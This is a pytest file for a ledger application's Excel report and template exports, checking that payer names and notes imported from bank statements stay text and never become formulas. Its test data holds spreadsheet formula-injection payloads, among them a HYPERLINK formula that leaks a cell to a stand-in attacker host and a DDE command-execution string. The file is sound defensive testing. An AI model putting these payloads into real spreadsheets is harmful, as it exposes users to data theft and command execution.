"""Text in a workbook stays text: a payer abroad controls what its bank
writes, and identification may attribute that receipt without review."""

from __future__ import annotations

import json

import openpyxl
import pytest
from common.statements import GERMANY, write_camt053

HOSTILE = [
    '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+2",
    "@SUM(A1:A2)",
    "#N/A",
]


def _formulas(path):
    """Cells that are formulas, or that would become one when a user edits
    them in Excel (formula-like text without the cell's quote prefix)."""
    wb = openpyxl.load_workbook(path)
    return [
        f"{ws.title}!{c.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f" or (isinstance(c.value, str) and c.value[:1] in "=+-@" and not c.quotePrefix)
    ]


def _texts(path):
    wb = openpyxl.load_workbook(path)
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


@pytest.fixture
def hostile_books(cli, ledger_dir, tmp_path):
    """Receipts from Germany whose payer and remittance text are formulas,
    each attributed to Germany (by identification or by review)."""
    entries = [
        {**GERMANY, "name": text, "date": f"2026-01-{10 + n:02d}", "amount": "1000.00", "ref": f"X{n}",
         "text": f"ISU 2026 Core Work Plan {text}"}
        for n, text in enumerate(HOSTILE)
    ]
    statement = write_camt053(tmp_path / "jan.xml", entries, opening=("2025-12-31", "612408.15"), ident="S-2026-01")
    code, _, err = cli(ledger_dir, "import", str(statement))
    assert code == 0, err
    code, out, err = cli(ledger_dir, "review", "list", "--json")
    for item in json.loads(out):
        code, _, err = cli(ledger_dir, "review", "resolve", item["id"], "--state-party", "DEU", "--year", "2026")
        assert code == 0, err
    return ledger_dir


@pytest.mark.parametrize("args", [
    ["statement", "--state-party", "DEU"],
    ["contributions"],
    ["annual"],
    ["budget"],
    ["buffer"],
])
def test_report_workbooks_hold_no_formula(cli, hostile_books, tmp_path, args):
    out = tmp_path / "report.xlsx"
    code, _, err = cli(hostile_books, "report", *args, "--year", "2026", "--format", "xlsx", "-o", str(out))
    assert code == 0, err
    assert _formulas(out) == []
    if args[0] == "statement":
        texts = " ".join(_texts(out))
        assert all(text in texts for text in HOSTILE)  # kept, as text


def test_template_workbooks_hold_no_formula(tmp_path):
    from ledger.finance.pledges import TEMPLATE
    from ledger.finance.workbooks import write_template

    path = write_template(tmp_path / "pledges.xlsx", TEMPLATE, [{"state_party": text} for text in HOSTILE])
    assert _formulas(path) == []
    assert set(HOSTILE) <= _texts(path)


def test_user_text_with_control_characters_reaches_a_template(cli, ledger_dir, tmp_path):
    """A note typed with a control character XML cannot carry (openpyxl
    refuses it) is written as a space, not a crash; formula text stays text."""
    code, _, err = cli(ledger_dir, "pledge", "add", "--state-party", "NOR", "--amount", "1000", "--year", "2026",
                       "--note", "=cmd|' /C calc'!A0\x01\x1bx")
    assert code == 0, err
    path = tmp_path / "pledges.xlsx"
    code, _, err = cli(ledger_dir, "pledge", "template", "--year", "2026", "-o", str(path))
    assert code == 0, err
    assert _formulas(path) == []
    assert "=cmd|' /C calc'!A0  x" in _texts(path)
